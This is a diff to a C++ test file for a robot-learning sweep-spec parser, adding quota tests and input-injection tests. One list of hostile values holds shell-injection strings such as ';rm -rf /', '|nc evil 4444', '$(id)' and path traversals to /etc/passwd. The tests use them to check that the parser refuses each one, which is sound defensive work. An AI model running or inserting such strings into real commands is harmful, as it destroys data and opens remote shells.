@@ -4,6 +4,7 @@
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
+#include <functional>
 #include <random>
 #include <string>
 #include <string_view>
@@ -15,6 +16,7 @@
 #include "absl/strings/str_join.h"
 #include "scheduler/spec/sweep_spec.h"
 #include "tests/support/example_specs.h"
+#include "workers/command_render.h"
 
 namespace mixsweep::spec {
 namespace {
@@ -292,14 +294,82 @@ TEST(SpecParserTest, TemplateForPrefersTheSourceOverride) {
   EXPECT_FALSE(spec.TemplateFor("generate", &own).has_value());
 }
 
-TEST(SpecParserTest, RunLimitGivesCountAndLimit) {
+// A quota, not a malformed spec: RESOURCE_EXHAUSTED with the count and the
+// limit (it was INVALID_ARGUMENT before issue 5).
+TEST(SpecParserTest, RunLimitIsAQuotaWithCountAndLimit) {
   auto parsed = ParseSweepSpec(kPickDualBottles, SpecLimits{.max_runs = 17});
+  ASSERT_FALSE(parsed.ok());
+  EXPECT_EQ(parsed.status().code(), absl::StatusCode::kResourceExhausted);
+  EXPECT_EQ(Message(parsed.status()),
+            "line 1: (root): the sweep expands to 18 runs (3 N_tele values x "
+            "(1 baseline + 1 mixed) x 3 seeds), more than the limit of 17 runs per sweep; "
+            "submit a smaller sweep and extend it later");
+  EXPECT_TRUE(ParseSweepSpec(kPickDualBottles, SpecLimits{.max_runs = 18}).ok());
+}
+
+// The quota is reported once the spec is otherwise valid: a spec with a
+// problem hears about the problem (INVALID_ARGUMENT), not the quota.
+TEST(SpecParserTest, QuotasComeAfterEveryOtherProblem) {
+  auto parsed = ParseSweepSpec(Append("priority: 5000"), SpecLimits{.max_runs = 1});
+  ASSERT_FALSE(parsed.ok());
+  EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
+  EXPECT_THAT(Message(parsed.status()), HasSubstr("line 25: priority:"));
+  EXPECT_THAT(Message(parsed.status()), Not(HasSubstr("runs")));
+}
+
+// Pick Dual Bottles trains on 3 seeds x ((1 baseline + 1 mixed) x (50 + 100
+// + 200) teleop demos + 1000 pretrain demos) = 5100 demos.
+TEST(SpecParserTest, SubsetEpisodesAreAQuota) {
+  auto parsed = ParseSweepSpec(kPickDualBottles);
+  ASSERT_TRUE(parsed.ok()) << parsed.status();
+  EXPECT_EQ(CountSubsetEpisodes(parsed->spec), 5100);
+  EXPECT_TRUE(ParseSweepSpec(kPickDualBottles, SpecLimits{.max_subset_episodes = 5100}).ok());
+  auto over = ParseSweepSpec(kPickDualBottles, SpecLimits{.max_subset_episodes = 5099});
+  ASSERT_FALSE(over.ok());
+  EXPECT_EQ(over.status().code(), absl::StatusCode::kResourceExhausted);
+  EXPECT_EQ(Message(over.status()),
+            "line 1: (root): the sweep's jobs train on 5100 demos in all (the sum of N over its "
+            "jobs), more than the limit of 5099 per sweep (each is listed in a subset "
+            "manifest); use smaller N or fewer seeds");
+  // The default quota (10,000,000) is met long before memory runs out: 1000
+  // N values of 1,000,000 demos each, which every per-value check accepts.
+  std::string n_tele = "n_tele: [";
+  for (int i = 0; i < 1000; ++i) absl::StrAppend(&n_tele, i ? ", " : "", 1000000 - i);
+  auto huge = ParseSweepSpec(Edit(10, 11, "  dataset: {uri: \"file:///data/teleop\", episodes: "
+                                          "1000000}\n  " + n_tele + "]"));
+  ASSERT_FALSE(huge.ok());
+  EXPECT_EQ(huge.status().code(), absl::StatusCode::kResourceExhausted) << huge.status();
+}
+
+TEST(SpecParserTest, CountSubsetEpisodesSaturates) {
+  SweepSpec spec;
+  spec.teleop.n_tele = {INT64_MAX / 2, INT64_MAX / 2, INT64_MAX / 2};
+  spec.sources.push_back({.name = "sim", .n_nt = {0, INT64_MAX}});
+  spec.seeds = {0, 1};
+  EXPECT_EQ(CountSubsetEpisodes(spec), INT64_MAX);
+}
+
+// Before issue 5 a valid spec could ask for a subset of 10^15 demos, which
+// the server tried to allocate while expanding it (std::bad_alloc, or with
+// N = 10^9 gigabytes). No N beyond 1,000,000 demos per job gets that far.
+TEST(SpecParserTest, DemosPerJobAreCapped) {
+  auto parsed = ParseSweepSpec(
+      Edit(10, 11, "  dataset: {uri: \"file:///data/teleop\", episodes: 1000000000000000}\n"
+                   "  n_tele: [50, 1000000000000000]"));
   ASSERT_FALSE(parsed.ok());
   EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
   EXPECT_THAT(Message(parsed.status()),
-              HasSubstr("line 1: (root): the sweep expands to 18 runs (3 N_tele values x "
-                        "(1 baseline + 1 mixed) x 3 seeds), more than the limit of 17"));
-  EXPECT_TRUE(ParseSweepSpec(kPickDualBottles, SpecLimits{.max_runs = 18}).ok());
+              HasSubstr("line 11: teleop.n_tele[1]: 1000000000000000 demos; at most 1000000 per "
+                        "job (its subset manifest lists every episode)"));
+  EXPECT_TRUE(ParseSweepSpec(Edit(10, 11, "  dataset: {uri: \"file:///data/teleop\", episodes: "
+                                          "2000000}\n  n_tele: [1000000]"))
+                  .ok());
+  // Stored specs are read back without the newer rules.
+  EXPECT_TRUE(ParseSweepSpec(
+                  Edit(10, 11, "  dataset: {uri: \"file:///data/teleop\", episodes: 3000000}\n"
+                               "  n_tele: [2000000]"),
+                  SpecLimits::ForStoredSpecs())
+                  .ok());
 }
 
 TEST(SpecParserTest, PlaceholdersByStage) {
@@ -617,6 +687,166 @@ std::vector<BadCase> BadCases() {
 INSTANTIATE_TEST_SUITE_P(Specs, BadSpecTest, ValuesIn(BadCases()),
                          [](const auto& info) { return info.param.name; });
 
+// ---------------------------------------------------------------------------
+// Identifiers and values that later become placeholder values ({task},
+// {policy}, {code_version}, {dataset_hash}, {dataset}) or are matched
+// against robots and workers: refused at submission when a worker would
+// refuse them (or worse, run them).
+
+// `text` as a YAML double-quoted scalar.
+std::string YamlQuoted(std::string_view text) {
+  std::string out = "\"";
+  for (char c : text) {
+    const auto u = static_cast<unsigned char>(c);
+    if (c == '"' || c == '\\') {
+      absl::StrAppend(&out, "\\", std::string(1, c));
+    } else if (u < 0x20 || u == 0x7f) {
+      absl::StrAppend(&out, "\\x", absl::Hex(u, absl::kZeroPad2));
+    } else {
+      out += c;
+    }
+  }
+  return out + "\"";
+}
+
+// Where a value goes in kBase, and the "line L: path" an error names.
+struct ValueField {
+  std::string name;
+  std::function<std::string(const std::string& quoted)> spec;
+  std::string where;
+  // The placeholder it becomes, if any, and that placeholder's kind.
+  std::string placeholder;
+};
+
+std::vector<ValueField> ValueFields() {
+  return {
+      {"task", [](const std::string& q) { return Edit(3, "  name: " + q); }, "line 3: task.name:",
+       "task"},
+      {"policy", [](const std::string& q) { return Edit(8, "policy: " + q); }, "line 8: policy:",
+       "policy"},
+      {"code_version", [](const std::string& q) { return Append("code_version: " + q); },
+       "line 25: code_version:", "code_version"},
+      {"uri",
+       [](const std::string& q) { return Edit(10, "  dataset: {uri: " + q + ", episodes: 200}"); },
+       "line 10: teleop.dataset.uri:", "dataset"},
+      {"content_hash",
+       [](const std::string& q) {
+         return Edit(10, "  dataset: {uri: \"file:///data/teleop\", content_hash: " + q +
+                             ", episodes: 200}");
+       },
+       "line 10: teleop.dataset.content_hash:", "dataset_hash"},
+      {"source", [](const std::string& q) { return Edit(13, "  - name: " + q); },
+       "line 13: sources[0].name:", ""},
+      {"scenario",
+       [](const std::string& q) { return Edit(20, "  scenarios: [in_domain, " + q + "]"); },
+       "line 20: evaluation.scenarios[1]:", ""},
+      {"platform",
+       [](const std::string& q) {
+         return Edit(20, "  scenarios: [in_domain, {name: x, platform: " + q + "}]");
+       },
+       "line 20: evaluation.scenarios[1].platform:", ""},
+      {"rubric name",
+       [](const std::string& q) { return Edit(6, "      - {name: " + q + ", score: 0.5}"); },
+       "line 6: task.rubric.milestones[0].name:", ""},
+      {"label value",
+       [](const std::string& q) { return Append("resources: {labels: {zone: " + q + "}}"); },
+       "line 25: resources.labels.zone:", ""},
+      {"label name",
+       [](const std::string& q) { return Append("resources: {labels: {" + q + ": a}}"); },
+       "line 25: resources.labels.", ""},
+  };
+}
+
+// Values a worker would refuse in a placeholder, or that could escape a
+// command, each appended to "x" (a valid start) unless it is the whole value.
+struct Hostile {
+  std::string text;
+  bool whole = false;
+};
+
+std::vector<Hostile> HostileValues() {
+  return {{";rm -rf /"}, {"&&curl evil"}, {"|nc evil 4444"}, {"$(id)"}, {"${HOME}"},
+          {"`id`"}, {"\nrm -rf /"}, {"\rx"}, {std::string("\0x", 2)}, {"\tx"},
+          {"/../etc/passwd"}, {"/a/../../b"}, {"/.."}, {"..", true}, {"\\..\\x"},
+          {"/%2e%2e/etc"}, {"/%2e%2e%2fetc"}, {"/%252e%252e%252fetc"}, {"%3bid"},
+          {"%253bid"}, {"%0aid"}, {"%60id%60"}, {"%24%28id%29"}, {"/%c0%ae%c0%ae/etc"},
+          {"/%ef%bc%8e%ef%bc%8e/etc"}, {"/%u002e%u002e/etc"}, {"/%%32%65%%32%65/etc"},
+          {"-rf", true}, {"--config=/evil.yaml", true}, {" --flag"}, {"'"}, {"\""},
+          {"*"}, {"\xc3\xa9"}, {">/etc/passwd"}, {"<x"}, {".hidden", true}};
+}
+
+TEST(SpecParserInjectionTest, HostileValuesAreRefusedWithTheirLineAndField) {
+  int refused = 0;
+  for (const ValueField& field : ValueFields()) {
+    for (const Hostile& hostile : HostileValues()) {
+      const std::string value = hostile.whole ? hostile.text : "x" + hostile.text;
+      const std::string yaml = field.spec(YamlQuoted(value));
+      absl::StatusOr<ParsedSpec> parsed = ParseSweepSpec(yaml);
+      ASSERT_FALSE(parsed.ok()) << field.name << " = " << absl::CHexEscape(value)
+                                << " was accepted";
+      EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
+      ExpectWellFormed(Message(parsed.status()));
+      EXPECT_THAT(Message(parsed.status()), HasSubstr(field.where))
+          << field.name << " = " << absl::CHexEscape(value);
+      ++refused;
+    }
+  }
+  EXPECT_EQ(refused, static_cast<int>(ValueFields().size() * HostileValues().size()));
+}
+
+TEST(SpecParserInjectionTest, OrdinaryValuesAreAccepted) {
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {"task", "Pick-Dual.Bottles"},       {"policy", "pi0_fast"},
+      {"policy", "act"},                   {"code_version", "git:4f1c2e9"},
+      {"code_version", "v1.2.3+local"},    {"code_version", "user@host:repo/branch=main"},
+      {"uri", "s3://lab-bucket/robotwin2/sim"}, {"uri", "hf://lerobot/aloha_sim@v2.1"},
+      {"uri", "/data/My%20Drive/demos~1/a+b=c,d"}, {"uri", "gs://bucket/a..b/c."},
+      {"uri", "file:///data/teleop"},      {"content_hash", "sha256:9b2f0c7e5d41a8f3"},
+      {"platform", "aloha-agilex-2.0"},    {"label value", "gpu-a100"},
+      {"label value", ""},                 {"label name", "example.com/zone"},
+  };
+  for (const auto& [name, value] : cases) {
+    for (const ValueField& field : ValueFields()) {
+      if (field.name != name) continue;
+      absl::StatusOr<ParsedSpec> parsed = ParseSweepSpec(field.spec(YamlQuoted(value)));
+      EXPECT_TRUE(parsed.ok()) << name << " = " << value << ": " << parsed.status();
+    }
+  }
+}
+
+// What the parser accepts for a value that becomes a placeholder value, the
+// worker's renderer renders: every hostile value, every ordinary one and a
+// few borderline ones, through both.
+TEST(SpecParserInjectionTest, EveryValueTheParserAcceptsRenders) {
+  std::vector<std::string> values = {"pick_dual_bottles", "A", "0", "a:b", "a/b", "a=b@c+d",
+                                     "file:///data/x", "/data/x", "s3://b/p", "x%20y", "x%41",
+                                     "x%25y", "x..y", "x/.y", "x/./y", "x~y,z", "%41", "~x",
+                                     "_x", "@x", "x" + std::string(127, 'y')};
+  for (const Hostile& hostile : HostileValues()) {
+    values.push_back(hostile.whole ? hostile.text : "x" + hostile.text);
+  }
+  int rendered = 0;
+  for (const ValueField& field : ValueFields()) {
+    if (field.placeholder.empty()) continue;
+    const workers::PlaceholderInfo* info = nullptr;
+    for (const workers::PlaceholderInfo& p : workers::KnownPlaceholders()) {
+      if (p.name == field.placeholder) info = &p;
+    }
+    ASSERT_NE(info, nullptr) << field.placeholder;
+    for (const std::string& value : values) {
+      if (!ParseSweepSpec(field.spec(YamlQuoted(value))).ok()) continue;
+      workers::JobValues job;
+      job.output_dir = "/art/j";
+      job.*std::get<std::string workers::JobValues::*>(info->field) = value;
+      absl::Status status = workers::CheckPlaceholderValue(field.placeholder, job, {});
+      EXPECT_TRUE(status.ok()) << field.name << " = " << absl::CHexEscape(value)
+                               << " is accepted by the parser but not rendered: " << status;
+      ++rendered;
+    }
+  }
+  EXPECT_GT(rendered, 40);
+}
+
 TEST(SpecParserTest, ReportsEveryProblemInLineOrder) {
   std::string yaml = Edit(17, "seeds: [0, 0]");
   yaml = absl::StrCat(yaml, "priority: 5000\n");
@@ -746,7 +976,8 @@ TEST(SpecParserRobustnessTest, RandomMutationsNeverCrash) {
     }
     absl::StatusOr<ParsedSpec> parsed = ParseSweepSpec(text);
     if (!parsed.ok()) {
-      EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
+      EXPECT_THAT(parsed.status().code(), ::testing::AnyOf(absl::StatusCode::kInvalidArgument,
+                                                           absl::StatusCode::kResourceExhausted));
       ExpectWellFormed(Message(parsed.status()));
     }
   }
